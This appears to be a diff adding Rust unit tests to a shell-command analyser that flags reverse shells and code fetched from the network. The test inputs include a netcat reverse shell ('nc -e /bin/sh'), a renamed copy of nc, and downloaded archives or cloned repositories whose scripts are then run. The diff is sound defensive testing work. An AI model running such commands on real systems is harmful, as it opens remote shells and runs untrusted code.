@@ -255,3 +255,76 @@ fn jobs_for_later_are_scheduled() {
         ["schedule now + 1 minute `id`", "evaluate shell `id`"]
     );
 }
+
+#[test]
+fn programs_brought_along_are_started_whatever_their_name() {
+    check(&[
+        (
+            "/tmp/nc -e /bin/sh h 1",
+            "execute /tmp/nc -e /bin/sh h 1 ; connect 1 h 1 ; execute /bin/sh <#1 >#1",
+        ),
+        ("./ps aux", "execute ./ps aux"),
+        ("/usr/local/bin/bash -c id", "evaluate shell `id`"),
+        ("/opt/venv/bin/python -c pass", "evaluate Python `pass`"),
+    ]);
+    let copy = |world: &mut World| {
+        run(
+            world,
+            Call::new("cp".into(), vec!["/bin/nc".into(), "/tmp/x".into()]),
+        );
+    };
+    let acts = outcome(copy, "/tmp/x -e sh h 1", None).acts;
+    assert_eq!(
+        acts.join(" ; "),
+        "read /bin/nc ; execute /tmp/x -e sh h 1 ; connect 1 h 1 ; execute sh <#1 >#1"
+    );
+}
+
+#[test]
+fn what_runs_from_a_fetched_folder_was_fetched() {
+    for (setup, line) in [
+        ("git clone http://h/r /opt/r", "/opt/r/run.sh"),
+        ("git clone http://h/r", "./r/run.sh"),
+        ("git clone http://h/r", "bash r/run.sh"),
+    ] {
+        let budget = Budget::default();
+        let mut world = World::new(&budget);
+        for line in [setup, line] {
+            let words = split_words(&Value::literal(line));
+            run(&mut world, Call::new(words[0].clone(), words[1..].to_vec()));
+        }
+        let acts = world.finish().acts;
+        let is_fetched = acts[1..].iter().any(|act| match &act.behavior {
+            Behavior::Execute { program, .. } => program.fetched_from().is_some(),
+            Behavior::Evaluate { code, .. } => code.fetched_from().is_some(),
+            _ => false,
+        });
+        assert!(is_fetched, "{line}: {acts:?}");
+    }
+}
+
+#[test]
+fn an_unpacked_archive_is_as_fetched_as_the_archive() {
+    let budget = Budget::default();
+    let mut world = World::new(&budget);
+    for line in [
+        "curl -o /tmp/a.tgz http://h/a.tgz",
+        "tar xzf /tmp/a.tgz -C /opt",
+        "cd /opt/a",
+        "./configure",
+        "cd /srv",
+        "./configure",
+    ] {
+        let words = split_words(&Value::literal(line));
+        run(&mut world, Call::new(words[0].clone(), words[1..].to_vec()));
+    }
+    let acts = world.finish().acts;
+    let fetched: Vec<bool> = acts
+        .iter()
+        .filter_map(|act| match &act.behavior {
+            Behavior::Execute { program, .. } => Some(program.fetched_from().is_some()),
+            _ => None,
+        })
+        .collect();
+    assert_eq!(fetched, [true, false]);
+}
